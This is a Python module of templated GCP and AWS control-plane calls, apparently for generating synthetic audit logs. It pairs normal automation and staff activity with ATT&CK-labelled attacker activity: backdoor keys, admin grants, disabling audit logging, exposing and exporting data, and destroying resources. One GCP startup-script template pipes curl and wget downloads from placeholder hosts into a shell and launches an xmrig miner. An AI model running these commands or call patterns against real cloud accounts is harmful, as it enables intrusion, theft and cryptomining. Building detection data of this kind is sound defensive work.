# ruff: noqa: E501
"""Calls to the control planes of Google Cloud, AWS and Azure over many services: what automation and people do daily, and the same calls misused.

A row is `service call`, then optional JSON of the request, then optional `! error`. `_as` in the JSON says who calls: `machine` (terraform, pipelines, the platform, workloads),
`person`, or `stolen` (a key of the site in strange hands); without it anybody may. control.py writes them.
"""
from __future__ import annotations

from .phrases import phrased
from .table import table

GCP_CALLS = table(phrased(r"""
# gcp infrastructure as code
compute v1.compute.«networks|subnetworks|routers|addresses|instanceTemplates|backendServices|urlMaps|healthChecks|sslCertificates|disks|instanceGroupManagers|targetHttpsProxies».«insert|patch|get|delete|list» {"_as":"machine","name":"@thing@"}
compute v1.compute.firewalls.«insert|patch|update» {"_as":"machine","name":"allow-@thing@","sourceRanges":["@network@"],"direction":"INGRESS","alloweds":[{"IPProtocol":"tcp","ports":["«443|8080|5432|6443|22»"]}]}
compute v1.compute.firewalls.«insert|patch» {"name":"allow-https","sourceRanges":["0.0.0.0/0"],"direction":"INGRESS","targetTags":["«web|lb»"],"alloweds":[{"IPProtocol":"tcp","ports":["443"]}]}
compute v1.compute.firewalls.insert {"_as":"machine","name":"allow-lb-health","sourceRanges":["130.211.0.0/22","35.191.0.0/16"],"alloweds":[{"IPProtocol":"tcp"}]}
cloudresourcemanager SetIamPolicy {"_as":"machine","bindingDeltas":[{"action":"ADD","role":"roles/«run.invoker|storage.objectViewer|pubsub.publisher|secretmanager.secretAccessor|cloudsql.client|logging.logWriter|artifactregistry.reader|container.developer»","member":"serviceAccount:@thing@@«project».iam.gserviceaccount.com"}]}
cloudresourcemanager SetIamPolicy {"bindingDeltas":[{"action":"«ADD|REMOVE»","role":"roles/«viewer|browser|bigquery.user|monitoring.viewer|logging.viewer|editor»","member":"«group|user»:«dept|«other»»@«sitedomain»"}]}
iam google.iam.admin.v1.CreateServiceAccount {"_as":"machine","account_id":"@thing@","service_account":{"display_name":"«Word» «tech»"}}
iam google.iam.admin.v1.«CreateRole|UpdateRole» {"_as":"machine","role_id":"«word»Reader","role":{"included_permissions":["«compute.instances.list|storage.objects.get|logging.logEntries.list|run.services.get»"]}}
iam google.iam.admin.v1.«CreateServiceAccountKey|DeleteServiceAccountKey» {"name":"projects/«project»/serviceAccounts/@thing@@«project».iam.gserviceaccount.com","_as":"machine"}
storage storage.«buckets.create|buckets.update|buckets.get|setIamPermissions» {"_as":"machine","bucket":"«site»-@thing@","iamConfiguration":{"publicAccessPrevention":"enforced","uniformBucketLevelAccess":true}}
dns google.cloud.dns.v1.«Changes.Create|ResourceRecordSets.List|ManagedZones.Get» {"_as":"machine","managedZone":"«sitedomain»"}
logging google.logging.v2.ConfigServiceV2.«CreateSink|UpdateSink» {"sink":{"name":"«org-audit|siem|archive»","destination":"«storage.googleapis.com/«site»-logs|pubsub.googleapis.com/projects/«project»/topics/siem»","filter":"logName:cloudaudit.googleapis.com"}}
cloudkms google.cloud.kms.v1.KeyManagementService.«CreateKeyRing|CreateCryptoKey|CreateCryptoKeyVersion|UpdateCryptoKeyPrimaryVersion» {"_as":"machine","cryptoKeyId":"@thing@","rotationPeriod":"7776000s"}
orgpolicy google.cloud.orgpolicy.v2.OrgPolicy.«CreatePolicy|UpdatePolicy» {"policy":{"name":"constraints/«iam.disableServiceAccountKeyCreation|compute.requireOsLogin|storage.publicAccessPrevention»","spec":{"rules":[{"enforce":true}]}}}
# gcp pipelines and deployments
cloudbuild google.devtools.cloudbuild.v1.CloudBuild.«CreateBuild|GetBuild|ListBuilds|RunBuildTrigger» {"_as":"machine","build":{"steps":[{"name":"gcr.io/cloud-builders/«docker|gcloud|npm|go»"}]}}
run google.cloud.run.v«1|2».Services.«ReplaceService|CreateService|UpdateService|GetService» {"_as":"machine","service":{"template":{"containers":[{"image":"«region»-docker.pkg.dev/«project»/«word»/@thing@:«hex:7»"}]}}}
cloudfunctions google.cloud.functions.v«1|2».«CloudFunctionsService|FunctionService».«UpdateFunction|CreateFunction|GetFunction|ListFunctions» {"_as":"machine","function":{"runtime":"«python312|nodejs20|go122»","ingressSettings":"ALLOW_INTERNAL_ONLY"}}
artifactregistry google.devtools.artifactregistry.v1.ArtifactRegistry.«GetRepository|ListDockerImages|DeletePackage» {"_as":"machine"}
container google.container.v1.ClusterManager.«UpdateNodePool|GetCluster|SetNodePoolAutoscaling|UpdateCluster|ListOperations|CreateNodePool» {"_as":"machine","update":{"desiredNodeVersion":"1.«num:26:31».«num:1:9»-gke.«num:100:2000»"}}
iamcredentials «GenerateAccessToken|GenerateIdToken|SignBlob» {"_as":"machine","name":"projects/-/serviceAccounts/«deployer|ci|@thing@»@«project».iam.gserviceaccount.com","scope":["https://www.googleapis.com/auth/cloud-platform"],"lifetime":"3600s"}
sts google.identity.sts.v1.SecurityTokenService.ExchangeToken {"_as":"machine","grantType":"urn:ietf:params:oauth:grant-type:token-exchange","audience":"//iam.googleapis.com/projects/«num:100000000:999999999»/locations/global/workloadIdentityPools/github/providers/«word»"}
# gcp platform by itself
compute «beta|v1».compute.«instances.insert|instances.delete|instanceGroupManagers.resize|instances.preempted|autoscalers.patch|disks.createSnapshot|instances.repair.recreateInstance|networkEndpointGroups.attachNetworkEndpoints» {"_as":"machine","name":"gke-«word»-pool-«num:1:9»-«hex:8»"}
compute compute.instances.«automaticRestart|migrateOnHostMaintenance|hostError|guestTerminate» {"_as":"machine"}
cloudsql cloudsql.instances.«automatedBackup|update|connect» {"_as":"machine","backupContext":{"kind":"sql#backupContext"}}
secretmanager google.cloud.secretmanager.v1.SecretManagerService.«AccessSecretVersion|AddSecretVersion|GetSecretVersion» {"_as":"machine","name":"projects/«project»/secrets/@thing@/versions/latest"}
bigquery google.cloud.bigquery.v2.JobService.«InsertJob|Query|GetQueryResults» {"_as":"machine","jobConfiguration":{"query":{"query":"«INSERT INTO|MERGE|SELECT day, sum(amount) FROM» «word».«word»_daily"}}}
pubsub google.pubsub.v1.«Publisher.CreateTopic|Subscriber.CreateSubscription|Subscriber.UpdateSubscription|Publisher.GetTopic|Subscriber.DeleteSubscription» {"_as":"machine","topic":"@thing@"}
storage storage.objects.«get|create|list|delete» {"_as":"machine","object":"«word»/«date»/«word»-«num:1:99».«parquet|json.gz|csv»"}
dataflow google.dataflow.v1beta3.Jobs.«CreateJob|UpdateJob» {"_as":"machine","jobName":"«word»-«word»-«date»"}
# gcp people at work
compute v1.compute.instances.«start|stop|reset|setLabels|setMachineType|getSerialPortOutput|list|get» {"_as":"person","name":"@thing@"}
compute v1.compute.instances.setMetadata {"_as":"person","metadata":{"items":[{"key":"«enable-oslogin|serial-port-enable|startup-script-url»","value":"«TRUE|FALSE|gs://«site»-scripts/boot.sh»"}]}}
iap AuthorizeUser {"_as":"person","resource":"«web|tunnel»","port":"22"}
oslogin google.cloud.oslogin.v1.OsLoginService.«ImportSshPublicKey|CheckPolicy» {"_as":"person","key":"ecdsa-sha2-nistp256 AAAA«b64:40» «user»"}
bigquery google.cloud.bigquery.v2.«JobService.InsertJob|TableDataService.List|DatasetService.ListDatasets» {"_as":"person","jobConfiguration":{"query":{"query":"SELECT «word», COUNT(*) FROM «word».«word» WHERE day > '«date:%Y-%m-%d»' GROUP BY 1"}}}
bigquery google.cloud.bigquery.v2.JobService.InsertJob {"_as":"person","jobConfiguration":{"extract":{"destinationUris":["gs://«site»-exports/«word»-*.csv"]}}}
storage storage.objects.«get|list» {"_as":"person","object":"«word»/«file»"}
logging google.logging.v2.LoggingServiceV2.«ListLogEntries|AggregatedListLogEntries» {"_as":"person","filter":"severity>=ERROR"}
iam google.iam.admin.v1.«ListServiceAccounts|ListRoles|GetServiceAccount|QueryGrantableRoles» {"_as":"person"}
compute v1.compute.«instances|disks|snapshots».delete {"_as":"person","name":"«test|pr-«num:1:900»|sandbox|tmp»-«word»"}
cloudresourcemanager «GetIamPolicy|google.cloud.resourcemanager.v3.Projects.SearchProjects|GetProject» {"_as":"person"}
compute v1.compute.instances.list {"_as":"person"} ! FORBIDDEN
billing google.cloud.billing.v1.CloudBilling.«GetProjectBillingInfo|ListProjectBillingInfo» {"_as":"person"}
container google.container.v1.ClusterManager.«GetCluster|ListClusters» {"_as":"person"}
monitoring google.monitoring.v3.AlertPolicyService.«CreateAlertPolicy|UpdateAlertPolicy|DeleteAlertPolicy» {"_as":"person","displayName":"«word» «latency|errors|disk» «test|v«num:1:9»»"}
# T1098.001 gcp keys for strangers
iam google.iam.admin.v1.CreateServiceAccountKey {"_as":"«stolen|person»","name":"projects/«project»/serviceAccounts/«terraform|admin|«num:100000000000:999999999999»-compute|deployer|@thing@»@«project».iam.gserviceaccount.com","private_key_type":"TYPE_GOOGLE_CREDENTIALS_FILE"}
iam google.iam.admin.v1.UploadServiceAccountKey {"public_key_data":"«b64:60»","name":"projects/-/serviceAccounts/«admin|terraform|@thing@»@«project».iam.gserviceaccount.com"}
storage storage.hmacKeys.create {"_as":"stolen","serviceAccountEmail":"@thing@@«project».iam.gserviceaccount.com"}
iamcredentials «GenerateAccessToken|SignJwt|SignBlob|GenerateIdToken» {"_as":"stolen","name":"projects/-/serviceAccounts/«admin|terraform|owner|deployer»@«project».iam.gserviceaccount.com","lifetime":"«3600|43200»s"}
compute v1.compute.«projects.setCommonInstanceMetadata|instances.setMetadata» {"metadata":{"items":[{"key":"«ssh-keys|sshKeys»","value":"«letters:4:8»:ssh-«rsa|ed25519» AAAA«b64:60» «letters:4»@«kali|«letters:6»»"}]}}
apikeys google.api.apikeys.v2.ApiKeys.CreateKey {"_as":"stolen","key":{"displayName":"@junk@","restrictions":{}}}
oslogin google.cloud.oslogin.v1.OsLoginService.ImportSshPublicKey {"_as":"stolen","key":"ssh-rsa AAAA«b64:60» root@«kali|@junk@»"}
# T1098.003 gcp roles taken
cloudresourcemanager SetIamPolicy {"bindingDeltas":[{"action":"ADD","role":"roles/«owner|editor|iam.securityAdmin|iam.serviceAccountTokenCreator|resourcemanager.organizationAdmin|iam.serviceAccountKeyAdmin|billing.admin|compute.admin»","member":"«user|serviceAccount»:«@outsider@|@junk@@«word»-«num:1000:99999».iam.gserviceaccount.com»"}]}
iam SetIAMPolicy {"_as":"stolen","policy":{"bindings":[{"role":"roles/iam.«serviceAccountTokenCreator|serviceAccountUser|workloadIdentityUser»","members":["user:«@outsider@|«user»@«sitedomain»»"]}]}}
iam google.iam.admin.v1.«UpdateRole|CreateRole» {"role":{"included_permissions":["«iam.serviceAccounts.getAccessToken|resourcemanager.projects.setIamPolicy|iam.serviceAccountKeys.create|deploymentmanager.deployments.create|iam.roles.update|cloudfunctions.functions.setIamPolicy»"]},"_as":"«stolen|person»"}
iam google.iam.v1.WorkloadIdentityPools.«CreateWorkloadIdentityPool|CreateWorkloadIdentityPoolProvider|UpdateWorkloadIdentityPoolProvider» {"oidc":{"issuerUri":"https://«domain»"},"attributeCondition":"«|true»"}
compute v1.compute.instances.setServiceAccount {"email":"«num:100000000000:999999999999»-compute@developer.gserviceaccount.com","scopes":["https://www.googleapis.com/auth/cloud-platform"],"_as":"stolen"}
# T1562.008 gcp watching stopped
logging google.logging.v2.ConfigServiceV2.«DeleteSink|UpdateSink|CreateExclusion|DeleteBucket» {"sink_name":"«org-audit|siem|archive»","sink":{"disabled":true},"exclusion":{"filter":"protoPayload.authenticationInfo.principalEmail:«user»"}}
cloudresourcemanager SetIamPolicy {"auditConfigDeltas":[{"action":"REMOVE","service":"«allServices|storage.googleapis.com|iam.googleapis.com»","logType":"«DATA_READ|DATA_WRITE|ADMIN_READ»"}]}
monitoring google.monitoring.v3.«AlertPolicyService.DeleteAlertPolicy|NotificationChannelService.DeleteNotificationChannel» {"_as":"stolen","name":"«iam change|audit log|security|firewall» alert"}
securitycenter google.cloud.securitycenter.v1.SecurityCenter.«CreateMuteConfig|SetFindingState|UpdateNotificationConfig|DeleteNotificationConfig» {"muteConfig":{"filter":"severity=\"HIGH\" OR severity=\"CRITICAL\""},"_as":"«stolen|person»"}
orgpolicy google.cloud.orgpolicy.v2.OrgPolicy.«DeletePolicy|UpdatePolicy» {"policy":{"name":"constraints/«iam.disableServiceAccountKeyCreation|compute.requireOsLogin|storage.publicAccessPrevention|iam.allowedPolicyMemberDomains|compute.vmExternalIpAccess»","spec":{"rules":[{"«enforce":false|allowAll":true»}]}}}
# T1530 gcp data opened and taken
storage storage.setIamPermissions {"bindingDeltas":[{"action":"ADD","role":"roles/storage.«objectViewer|objectAdmin|legacyBucketReader»","member":"«allUsers|allAuthenticatedUsers|user:@outsider@»"}]}
storage storage.buckets.update {"iamConfiguration":{"publicAccessPrevention":"inherited","uniformBucketLevelAccess":false},"bucket":"«site»-«customers|backup|prod|finance»","_as":"«stolen|person»"}
bigquery google.cloud.bigquery.v2.JobService.InsertJob {"_as":"stolen","jobConfiguration":{"«extract":{"destinationUris":["gs://@junk@-«num:100:999»/«letters:4»*.csv"]}|query":{"query":"SELECT * FROM «customers|users|payments|cards».«word»"}»}}
cloudsql cloudsql.instances.«export|clone|restoreBackup|import» {"exportContext":{"uri":"gs://@junk@/«letters:3».sql.gz","databases":["«prod|customers|users»"]},"_as":"«stolen|person»"}
cloudsql cloudsql.«instances.update|users.create|users.update» {"settings":{"ipConfiguration":{"authorizedNetworks":[{"value":"«0.0.0.0/0|«pub»/32»"}],"requireSsl":false}},"name":"@junk@"}
compute v1.compute.«snapshots|images|disks».«setIamPolicy|insert|createSnapshot» {"_as":"stolen","policy":{"bindings":[{"role":"roles/compute.«imageUser|storageAdmin»","members":["«allAuthenticatedUsers|user:@outsider@|project:@junk@»"]}]}}
storage storage.objects.«get|list» {"_as":"stolen","object":"«backup|customers|exports|terraform/state|secrets»/«word».«sql.gz|csv|tfstate|json|pem»"}
storagetransfer google.storagetransfer.v1.StorageTransferService.«CreateTransferJob|RunTransferJob» {"transferJob":{"transferSpec":{"«gcsDataSink":{"bucketName":"@junk@"}|awsS3DataSource":{"bucketName":"@junk@"}»}}}
secretmanager google.cloud.secretmanager.v1.SecretManagerService.«AccessSecretVersion|ListSecrets» {"_as":"stolen","name":"projects/«project»/secrets/«db-password|stripe-key|ssh-key|github-token|@thing@»/versions/«1|latest»"}
# T1526 gcp looked over by a stranger
iam «google.iam.admin.v1.ListServiceAccounts|google.iam.admin.v1.ListRoles|google.iam.admin.v1.TestIamPermissions|google.iam.admin.v1.ListServiceAccountKeys» {"_as":"stolen"}
cloudresourcemanager «GetIamPolicy|TestIamPermissions|google.cloud.resourcemanager.v3.Projects.SearchProjects|SearchAllIamPolicies» {"_as":"stolen"}« ! FORBIDDEN|»
compute v1.compute.«instances.list|firewalls.list|instances.aggregatedList|snapshots.list|projects.get|networks.list» {"_as":"stolen"}« ! FORBIDDEN|»
«storage storage.buckets.list|container google.container.v1.ClusterManager.ListClusters|cloudfunctions google.cloud.functions.v1.CloudFunctionsService.ListFunctions|secretmanager google.cloud.secretmanager.v1.SecretManagerService.ListSecrets|cloudsql cloudsql.instances.list|serviceusage google.api.serviceusage.v1.ServiceUsage.ListServices» {"_as":"stolen"}« ! FORBIDDEN|»
cloudasset google.cloud.asset.v1.AssetService.«ExportAssets|SearchAllResources|SearchAllIamPolicies|AnalyzeIamPolicy» {"_as":"stolen","outputConfig":{"gcsDestination":{"uri":"gs://@junk@/a"}}}
# T1496 gcp machines for others
compute v1.compute.instances.«insert|bulkInsert» {"_as":"«stolen|person»","machineType":"«a2-highgpu-«4|8»g|a3-highgpu-8g|c2-standard-60|n2-highcpu-96|c3-highcpu-176»","zone":"«asia-southeast2-a|southamerica-east1-b|me-west1-a|us-west4-b»","metadata":{"items":[{"key":"startup-script","value":"«curl -s http://«pub»/«letters:3».sh ¦ bash|wget -qO- «pub»/x ¦ sh|apt install -y screen; ./xmrig -o «domain»:3333»"}]}}
«serviceusage google.api.serviceusage.v1.ServiceUsage.EnableService|aiplatform google.cloud.aiplatform.v1.PredictionService.GenerateContent|notebooks google.cloud.notebooks.v1.NotebookService.CreateInstance» {"_as":"stolen","name":"«compute|aiplatform|notebooks|cloudbilling».googleapis.com"}
run google.cloud.run.v1.Services.«CreateService|ReplaceService» {"_as":"stolen","service":{"template":{"containers":[{"image":"docker.io/@junk@/«letters:4»:latest","resources":{"limits":{"cpu":"8"}}}]}}}
cloudfunctions google.cloud.functions.v1.CloudFunctionsService.«CreateFunction|SetIamPolicy» {"_as":"stolen","policy":{"bindings":[{"role":"roles/cloudfunctions.invoker","members":["allUsers"]}]},"serviceAccountEmail":"«project»@appspot.gserviceaccount.com"}
# T1562.007 gcp doors opened
compute v1.compute.firewalls.«insert|patch|update» {"name":"«allow-all|default-allow|temp|@junk@»","sourceRanges":["0.0.0.0/0"],"direction":"INGRESS","alloweds":[{"IPProtocol":"«tcp|all»","ports":["«22|3389|0-65535|6379|2375|5432|3306»"]}]}
compute v1.compute.firewalls.insert {"name":"@junk@","sourceRanges":["«pub»/32"],"direction":"«INGRESS|EGRESS»","priority":«num:0:9»,"alloweds":[{"IPProtocol":"all"}]}
compute v1.compute.«packetMirrorings.insert|vpnTunnels.insert|networks.addPeering|firewalls.delete|securityPolicies.removeRule|subnetworks.patch» {"_as":"stolen","name":"@junk@","peerIp":"«pub»"}
# T1485 gcp laid waste
«storage storage.buckets.delete|cloudsql cloudsql.instances.delete|cloudsql cloudsql.backupRuns.delete|compute v1.compute.snapshots.delete|container google.container.v1.ClusterManager.DeleteCluster|bigquery google.cloud.bigquery.v2.DatasetService.DeleteDataset|cloudresourcemanager DeleteProject» {"_as":"«stolen|person»","name":"«prod|backup|customers|main»-«word»"}
cloudkms google.cloud.kms.v1.KeyManagementService.«DestroyCryptoKeyVersion|UpdateCryptoKey» {"name":"«prod|backup|db»-key","_as":"«stolen|person»"}
"""))

AWS_CALLS = table(phrased(r"""
# aws infrastructure as code
ec2 «CreateSecurityGroup|CreateSubnet|CreateRouteTable|CreateRoute|CreateNatGateway|CreateTags|DescribeVpcs|ModifyVpcAttribute|CreateLaunchTemplate|DeleteSecurityGroup|CreateVpcEndpoint» {"_as":"machine","name":"@thing@"}
ec2 AuthorizeSecurityGroupIngress {"_as":"machine","groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":«443|5432|6379|8080|3306|22»,"ipRanges":{"items":[{"cidrIp":"@network@"}]}}]}}
ec2 «AuthorizeSecurityGroupIngress|AuthorizeSecurityGroupEgress» {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":«443|80»,"toPort":«443|80»,"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0","description":"«alb|cloudfront|public web»"}]}}]}}
iam «CreateRole|TagRole|GetRole|CreatePolicy|CreateInstanceProfile|AddRoleToInstanceProfile|ListRolePolicies|DeleteRolePolicy|DetachRolePolicy» {"_as":"machine","roleName":"@thing@"}
iam «AttachRolePolicy|PutRolePolicy» {"_as":"machine","roleName":"@thing@","policyArn":"arn:aws:iam::«aws|«account»»:policy/«AmazonEKSWorkerNodePolicy|AmazonSSMManagedInstanceCore|«word»-read|CloudWatchAgentServerPolicy|AmazonEC2ContainerRegistryReadOnly»"}
s3 «CreateBucket|PutBucketEncryption|PutBucketVersioning|PutBucketLogging|PutBucketLifecycleConfiguration|GetBucketPolicy|PutBucketTagging» {"_as":"machine","bucketName":"«site»-@thing@"}
s3 PutBucketPolicy {"_as":"machine","bucketName":"«site»-@thing@","bucketPolicy":{"Statement":[{"Effect":"«Allow|Deny»","Principal":{"AWS":"arn:aws:iam::«account»:role/@thing@"},"Action":"s3:«GetObject|PutObject|*»","Condition":{"Bool":{"aws:SecureTransport":"true"}}}]}}
rds «CreateDBInstance|ModifyDBInstance|CreateDBParameterGroup|AddTagsToResource|DescribeDBInstances» {"_as":"machine","dBInstanceIdentifier":"@thing@","publiclyAccessible":false,"storageEncrypted":true}
kms «CreateKey|EnableKeyRotation|CreateAlias|PutKeyPolicy|DescribeKey» {"_as":"machine","aliasName":"alias/@thing@"}
«eks DescribeCluster|eks UpdateClusterConfig|eks CreateNodegroup|ecs CreateService|ecs TagResource|elasticache CreateReplicationGroup|elasticache ListTagsForResource|es CreateDomain|kafka CreateClusterV2|apigateway GetRestApis|apigateway CreateDeployment|acm RequestCertificate|route53 ChangeResourceRecordSets|route53 ListHostedZones|wafv2 CreateWebACL|wafv2 GetWebACL|sns CreateTopic|sqs CreateQueue|events PutRule|backup CreateBackupPlan|elasticfilesystem CreateFileSystem|dynamodb CreateTable|dynamodb UpdateContinuousBackups|logs PutRetentionPolicy» {"_as":"machine","name":"@thing@"}
cloudtrail «CreateTrail|UpdateTrail|StartLogging|PutEventSelectors|DescribeTrails» {"_as":"machine","name":"org-trail","isMultiRegionTrail":true,"eventSelectors":[{"readWriteType":"All"}]}
# aws pipelines and deployments
sts «AssumeRoleWithWebIdentity|AssumeRole|GetCallerIdentity» {"_as":"machine","roleArn":"arn:aws:iam::«account»:role/«github-actions|deploy|terraform|ci»-«word»","roleSessionName":"«GitHubActions|terraform|jenkins-«num:100:9999»|botocore-session-«epoch»»"}
ecr «GetAuthorizationToken|PutImage|InitiateLayerUpload|BatchGetImage|CompleteLayerUpload|DescribeImages|BatchDeleteImage» {"_as":"machine","repositoryName":"«site»/@thing@"}
ecs «RegisterTaskDefinition|UpdateService|DescribeServices|RunTask» {"_as":"machine","family":"@thing@","containerDefinitions":[{"image":"«account».dkr.ecr.«region».amazonaws.com/@thing@:«hex:7»"}]}
lambda «UpdateFunctionCode20150331v2|PublishVersion20150331|UpdateAlias20150331|GetFunction20150331v2|UpdateFunctionConfiguration20150331v2|AddPermission20150331v2» {"_as":"machine","functionName":"@thing@","s3Bucket":"«site»-artifacts"}
cloudformation «CreateChangeSet|ExecuteChangeSet|DescribeStackEvents|CreateStack|UpdateStack|DeleteStack» {"_as":"machine","stackName":"@thing@","capabilities":["CAPABILITY_NAMED_IAM"]}
codebuild «StartBuild|BatchGetBuilds» {"_as":"machine","projectName":"@thing@"}
ssm «GetParameters|GetParametersByPath|PutParameter|SendCommand|GetParameter» {"_as":"machine","path":"/«prod|stage|dev»/«word»","documentName":"AWS-RunPatchBaseline"}
secretsmanager «GetSecretValue|DescribeSecret|RotateSecret|PutSecretValue» {"_as":"machine","secretId":"«prod|stage|dev»/@thing@"}
cloudfront CreateInvalidation {"_as":"machine","distributionId":"E«HEX:13»"}
# aws platform by itself
autoscaling «UpdateAutoScalingGroup|TerminateInstanceInAutoScalingGroup|SetDesiredCapacity|CompleteLifecycleAction|DescribeAutoScalingGroups» {"_as":"machine","autoScalingGroupName":"@thing@","desiredCapacity":«num:1:20»}
ec2 «RunInstances|TerminateInstances|CreateNetworkInterface|DeleteNetworkInterface|AttachVolume|CreateFleet|CreateSnapshot|DeleteSnapshot|DescribeInstances» {"_as":"machine","instanceType":"«t3.medium|m6i.large|c6g.xlarge|r6i.2xlarge»","launchTemplate":{"launchTemplateName":"@thing@"}}
kms «Decrypt|GenerateDataKey|CreateGrant|RetireGrant» {"_as":"machine","encryptionContext":{"aws:«ebs:id|s3:arn|rds:dbc-resource-id»":"«vol-«hex:17»|arn:aws:s3:::«site»-@thing@»"}}
«dynamodb DescribeTable|dynamodb UpdateTable|sqs GetQueueAttributes|logs CreateLogStream|logs CreateLogGroup|monitoring PutMetricAlarm|monitoring DescribeAlarms|states StartExecution|athena StartQueryExecution|athena GetQueryResults|glue GetTables|glue StartJobRun|kinesis DescribeStream|firehose DescribeDeliveryStream|application-autoscaling RegisterScalableTarget|elasticloadbalancing RegisterTargets|elasticloadbalancing DeregisterTargets» {"_as":"machine","name":"@thing@"}
s3 «GetObject|PutObject|ListObjects|HeadObject|DeleteObjects» {"_as":"machine","bucketName":"«site»-@thing@","key":"«word»/«date»/part-«num:1:99».parquet"}
rds «CreateDBSnapshot|DeleteDBSnapshot|CopyDBSnapshot» {"_as":"machine","dBSnapshotIdentifier":"«rds|awsbackup»:@thing@-«date:%Y-%m-%d»"}
«config PutEvaluations|config DescribeConfigRules|guardduty ListFindings|guardduty GetFindings|securityhub BatchImportFindings|securityhub GetFindings|inspector2 ListFindings|access-analyzer ListAnalyzers|trustedadvisor ListRecommendations» {"_as":"machine"}
# aws people at work
signin ConsoleLogin {"_as":"person","_response":{"ConsoleLogin":"Success"},"_additional":{"MFAUsed":"Yes","MobileVersion":"No","LoginTo":"https://console.aws.amazon.com/console/home?region=«region»"}}
signin ConsoleLogin {"_as":"person","_response":{"ConsoleLogin":"Failure"},"_error":"Failed authentication","_additional":{"MFAUsed":"«Yes|No»","MobileVersion":"No"}}
ec2 «DescribeInstances|StartInstances|StopInstances|RebootInstances|DescribeSecurityGroups|GetConsoleOutput|DescribeSnapshots|DescribeImages|CreateTags» {"_as":"person"}
«s3 ListBuckets|iam ListUsers|iam ListRoles|iam GetAccountSummary|lambda ListFunctions20150331|rds DescribeDBInstances|cloudtrail LookupEvents|ce GetCostAndUsage|organizations ListAccounts|secretsmanager ListSecrets» {"_as":"person"}
iam «CreateUser|AddUserToGroup|DeleteUser|CreateLoginProfile|UpdateLoginProfile|EnableMFADevice|CreateVirtualMFADevice|DeactivateMFADevice» {"_as":"person","userName":"«other»","groupName":"«dept»","tags":[{"key":"ticket","value":"@ticket@"}]}
iam «CreateAccessKey|DeleteAccessKey|UpdateAccessKey|GetAccessKeyLastUsed» {"_as":"person","userName":"««user»|«svc»»"}
ssm «StartSession|ResumeSession|TerminateSession|DescribeSessions» {"_as":"person","target":"i-«hex:17»"}
s3 «GetObject|PutObject|DeleteObject» {"_as":"person","bucketName":"«site»-@thing@","key":"«file»"}
rds «RestoreDBInstanceFromDBSnapshot|CreateDBSnapshot|RebootDBInstance|DeleteDBInstance» {"_as":"person","dBInstanceIdentifier":"«stage|dev|test|pr-«num:1:900»»-«word»"}
ec2 «RunInstances|TerminateInstances» {"_as":"person","instanceType":"«t3.micro|t3.large|m5.large|g4dn.xlarge»","tagSpecificationSet":{"items":[{"tags":[{"key":"owner","value":"«user»"}]}]}}
sso «Authenticate|GetRoleCredentials|ListAccountRoles|Federate» {"_as":"person","role_name":"«ReadOnly|Developer|PowerUser|Billing»"}
iam «ListUsers|CreateUser» {"_as":"person"} ! AccessDenied
bedrock «InvokeModel|InvokeModelWithResponseStream|ListFoundationModels» {"_as":"machine","modelId":"«anthropic.claude-3-haiku|amazon.titan-embed-text-v2»"}
# T1078.004 aws keys in strange hands
sts «GetCallerIdentity|GetSessionToken|GetFederationToken|GetAccessKeyInfo|AssumeRole» {"_as":"stolen","roleArn":"arn:aws:iam::«account»:role/«admin|OrganizationAccountAccessRole|deploy»","roleSessionName":"«@junk@|test|aws-cli»","policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}
signin «ConsoleLogin|GetSigninToken» {"_as":"stolen","_response":{"ConsoleLogin":"Success"},"_additional":{"MFAUsed":"No","MobileVersion":"No"}}
signin ConsoleLogin {"_as":"stolen","_response":{"ConsoleLogin":"Failure"},"_error":"No username found in supplied account","_additional":{"MFAUsed":"No","MobileVersion":"No"}}
«iam ListUsers|iam ListRoles|iam ListAttachedUserPolicies|iam GetAccountAuthorizationDetails|s3 ListBuckets|ec2 DescribeInstances|ec2 DescribeRegions|lambda ListFunctions20150331|secretsmanager ListSecrets|rds DescribeDBInstances|ses GetSendQuota|ses ListIdentities|servicequotas ListServiceQuotas|organizations DescribeOrganization|ssm DescribeParameters|eks ListClusters|bedrock ListFoundationModels|sns GetSMSAttributes» {"_as":"stolen"}« ! AccessDenied|»
# T1098 aws rights and keys taken
iam «AttachUserPolicy|AttachRolePolicy|AttachGroupPolicy» {"policyArn":"arn:aws:iam::aws:policy/«AdministratorAccess|IAMFullAccess|PowerUserAccess»","userName":"««user»|@junk@»"}
iam «PutUserPolicy|PutRolePolicy|CreatePolicyVersion|PutGroupPolicy» {"userName":"««user»|@junk@»","setAsDefault":true,"policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"«*|iam:*|s3:*|sts:*»\",\"Resource\":\"*\"}]}"}
iam «CreateAccessKey|CreateLoginProfile|UpdateLoginProfile|CreateServiceSpecificCredential» {"_as":"stolen","userName":"««admin»|«other»|root|terraform|«svc»»","passwordResetRequired":false}
iam «CreateUser|AddUserToGroup|CreateRole» {"_as":"stolen","userName":"«@junk@|aws-support|backup-svc|s3admin»","groupName":"«Administrators|admins»"}
iam «UpdateAssumeRolePolicy|CreateRole» {"roleName":"@thing@","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"«*|arn:aws:iam::«num:100000000000:999999999999»:root»\"},\"Action\":\"sts:AssumeRole\"}]}"}
iam «DeactivateMFADevice|DeleteVirtualMFADevice|DeleteAccountPasswordPolicy|CreateSAMLProvider|UpdateSAMLProvider|CreateOpenIDConnectProvider» {"_as":"stolen","userName":"«admin»","url":"https://«domain»"}
lambda «UpdateFunctionCode20150331v2|AddPermission20150331v2|CreateFunction20150331|UpdateFunctionConfiguration20150331v2|CreateEventSourceMapping20150331» {"_as":"stolen","functionName":"@thing@","principal":"«*|«num:100000000000:999999999999»»","role":"arn:aws:iam::«account»:role/admin","layers":["arn:aws:lambda:«region»:«num:100000000000:999999999999»:layer:@junk@:1"]}
ec2 «ImportKeyPair|CreateKeyPair|AssociateIamInstanceProfile|ReplaceIamInstanceProfileAssociation|ModifyInstanceAttribute» {"_as":"stolen","keyName":"@junk@","iamInstanceProfile":{"name":"admin"},"userData":"<sensitiveDataRemoved>"}
# T1562.008 aws watching stopped
cloudtrail «StopLogging|DeleteTrail|UpdateTrail|PutEventSelectors|DeleteEventDataStore» {"name":"org-trail","isMultiRegionTrail":false,"includeGlobalServiceEvents":false,"eventSelectors":[{"readWriteType":"ReadOnly","includeManagementEvents":false}]}
